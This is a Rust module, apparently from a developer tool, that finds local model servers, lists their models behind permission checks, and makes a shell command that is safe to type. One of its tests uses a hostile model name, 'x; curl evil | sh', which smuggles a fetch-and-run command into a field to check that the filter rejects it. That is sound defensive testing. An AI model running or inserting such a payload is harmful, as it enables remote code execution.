//! Which models there are: those that an endpoint offers, and those that run on this machine (spec: Local Development,
//! local models).
//!
//! Only this machine is asked before the user chose a provider, and only when somebody wants to know. What is found is
//! shown, never used without being chosen.

use std::time::Duration;

use reqwest::Client;
use serde_json::Value;

use super::error::Error;
use super::gateway::Gateway;
use super::route;
use crate::config::Wire;
use crate::config::host::Host;
use crate::permit::{Action, Permit};
use crate::text::json::{list, text};

/// How long a server on this machine may take to say what it has.
const LOOK_TIMEOUT: Duration = Duration::from_millis(1500);

/// Bytes of a list of models that are read.
const LIST_BYTES_MAX: usize = 4 * 1024 * 1024;

/// Models that are named in an advice.
const NAMED_MAX: usize = 3;

/// A server of models that may run on this machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Candidate {
    /// What people call it.
    pub name: &'static str,
    /// Name of its provider in the settings.
    pub provider: &'static str,
    /// Where it listens.
    pub base_url: String,
    /// How it is spoken to.
    pub wire: Wire,
}

/// A server of models that runs on this machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Offer {
    /// The server.
    pub server: Candidate,
    /// Its models.
    pub models: Vec<String>,
}

/// Where servers of models usually listen. Ollama's own variable counts when it names this machine.
pub fn candidates(host: &Host) -> Vec<Candidate> {
    let ollama = host
        .variable("OLLAMA_HOST")
        .and_then(loopback)
        .unwrap_or_else(|| "http://127.0.0.1:11434".to_owned());
    let server = |name, provider, port: u16| Candidate {
        name,
        provider,
        base_url: format!("http://127.0.0.1:{port}/v1"),
        wire: Wire::Openai,
    };
    vec![
        Candidate {
            name: "Ollama",
            provider: "ollama",
            base_url: ollama,
            wire: Wire::Ollama,
        },
        server("llama.cpp", "llamacpp", 8080),
        server("LM Studio", "lmstudio", 1234),
        server("vLLM", "vllm", 8000),
    ]
}

/// The address in a variable such as `0.0.0.0:11500`, when it is one of this machine.
fn loopback(value: &str) -> Option<String> {
    let address = value.trim().trim_start_matches("http://");
    let address = address.split('/').next()?;
    let (name, port) = address.rsplit_once(':').unwrap_or((address, "11434"));
    let is_local = ["127.0.0.1", "localhost", "0.0.0.0", ""].contains(&name);
    let port: u16 = port.parse().ok()?;
    is_local.then(|| format!("http://127.0.0.1:{port}"))
}

impl Candidate {
    /// What has to be permitted before it is looked at.
    pub fn action(&self) -> Action {
        Action::Connect {
            url: listing(self.wire, &self.base_url),
        }
    }
}

/// Asks this machine's servers what they have, all at once. `permits` are for the actions of `candidates`, one each.
pub async fn look(candidates: Vec<Candidate>, permits: &[Permit]) -> Vec<Offer> {
    let Ok(client) = route::client("http://") else {
        return Vec::new();
    };
    let looks = candidates.into_iter().map(|server| {
        let client = &client;
        async move {
            let action = server.action();
            let Action::Connect { url } = &action else {
                return None;
            };
            let permitted = permits.iter().any(|permit| *permit.action() == action);
            let asked = permitted.then(|| fetch(client, url))?;
            let models = tokio::time::timeout(LOOK_TIMEOUT, asked).await.ok()??;
            Some(Offer { server, models })
        }
    });
    let found = futures::future::join_all(looks).await;
    found.into_iter().flatten().collect()
}

async fn fetch(client: &Client, url: &str) -> Option<Vec<String>> {
    let response = client.get(url).send().await.ok()?;
    let is_json = route::content_type(&response) == "application/json";
    if !response.status().is_success() || !is_json {
        return None;
    }
    let body = route::capped(response, LIST_BYTES_MAX).await;
    names(&serde_json::from_str(&body).ok()?)
}

/// One sentence on how to use what was found. It is made to be typed into a shell, and anybody may listen on a port:
/// only models whose names mean nothing to a shell are named.
pub fn advice(offers: &[Offer]) -> Option<String> {
    let words = |offer: &Offer| -> Vec<String> {
        let words = offer.models.iter().filter(|model| is_word(model));
        words.take(NAMED_MAX).cloned().collect()
    };
    let mut found = offers.iter().map(|offer| (offer, words(offer)));
    let (offer, models) = found.find(|(_, models)| !models.is_empty())?;
    let Candidate {
        name,
        provider,
        base_url,
        ..
    } = &offer.server;
    let model = models.first()?;
    let place = match provider {
        &"ollama" if base_url.ends_with(":11434") => String::new(),
        _ => format!(" && meliora config set llm.providers.{provider}.base_url {base_url}"),
    };
    Some(format!(
        "{name} runs on this machine with {}; to use it: meliora config set llm.provider {provider} && \
         meliora config set llm.model {model}{place}",
        models.join(", ")
    ))
}

/// Whether a name is one word to every shell, and no option.
fn is_word(name: &str) -> bool {
    let is_letter = |byte: u8| byte.is_ascii_alphanumeric() || b"._:/-".contains(&byte);
    !name.starts_with('-') && name.bytes().all(is_letter)
}

/// The address at which a server lists its models.
fn listing(wire: Wire, endpoint: &str) -> String {
    let base = endpoint.strip_suffix("/v1").unwrap_or(endpoint);
    match wire {
        Wire::Ollama => format!("{base}/api/tags"),
        Wire::Anthropic => format!("{base}/v1/models"),
        Wire::Openai | Wire::Responses | Wire::Template => format!("{endpoint}/models"),
    }
}

/// The names in a list of models, as Ollama or as everybody else writes it.
fn names(list_of_models: &Value) -> Option<Vec<String>> {
    let at = |pointer: &str, key: &str| -> Option<Vec<String>> {
        list_of_models.pointer(pointer)?.as_array()?;
        let named = list(list_of_models, pointer)
            .iter()
            .map(|model| text(model, key).to_owned());
        Some(named.filter(|name| !name.is_empty()).collect())
    };
    at("/data", "/id").or_else(|| at("/models", "/name"))
}

impl Gateway {
    /// What has to be permitted before [`Gateway::models`].
    pub fn listing_action(&self) -> Action {
        Action::Connect {
            url: listing(self.route.wire, &self.route.endpoint),
        }
    }

    /// The models that the endpoint offers.
    pub async fn models(&mut self, permit: &Permit) -> Result<Vec<String>, Error> {
        let action = self.listing_action();
        let Action::Connect { url } = &action else {
            return Ok(Vec::new());
        };
        if *permit.action() != action {
            return Err(Error::NotPermitted(url.clone()));
        }
        if self.route.replay.is_some() {
            return Err(Error::OnlyConversations);
        }
        if self.route.wire == Wire::Template {
            // Nobody knows where it would list them.
            return Ok(vec![self.route.model.clone()]);
        }
        let body = self.route.get(url, LIST_BYTES_MAX).await?;
        let names = serde_json::from_str(&body)
            .ok()
            .and_then(|list| names(&list));
        names.ok_or_else(|| Error::NotAList(url.clone()))
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn lists_of_every_kind_are_read() {
        let models = json!({ "models": [{ "name": "a:7b", "model": "x" }, {}] });
        assert_eq!(names(&models), Some(vec!["a:7b".to_owned()]));
        let data =
            json!({ "object": "list", "data": [{ "id": "b" }], "models": [{ "name": "other" }] });
        assert_eq!(names(&data), Some(vec!["b".to_owned()]));
        assert_eq!(names(&json!({ "hello": 1 })), None);
    }

    #[test]
    fn a_variable_that_names_another_machine_is_not_followed() {
        for (value, expected) in [
            ("0.0.0.0:11500", Some("http://127.0.0.1:11500")),
            ("http://localhost:1/", Some("http://127.0.0.1:1")),
            ("127.0.0.1", Some("http://127.0.0.1:11434")),
            ("example.org:11434", None),
            ("127.0.0.1.example.org", None),
            ("127.0.0.1:many", None),
        ] {
            assert_eq!(loopback(value).as_deref(), expected, "{value}");
        }
    }

    #[test]
    fn an_advice_can_be_typed() {
        let server = Candidate {
            name: "llama.cpp",
            provider: "llamacpp",
            base_url: "http://127.0.0.1:8080/v1".to_owned(),
            wire: Wire::Openai,
        };
        let models = vec!["x; curl evil | sh".to_owned(), "-x".to_owned()];
        let hostile = Offer {
            server: server.clone(),
            models: models.clone(),
        };
        assert_eq!(advice(&[hostile]), None);
        let models = [models, vec!["tiny".to_owned()]].concat();
        let advice = advice(&[Offer { server, models }]).expect("there is something to say");
        assert!(!advice.contains("curl"), "{advice}");
        assert!(advice.contains("config set llm.model tiny"), "{advice}");
        assert!(
            advice.ends_with("base_url http://127.0.0.1:8080/v1"),
            "{advice}"
        );
    }
}
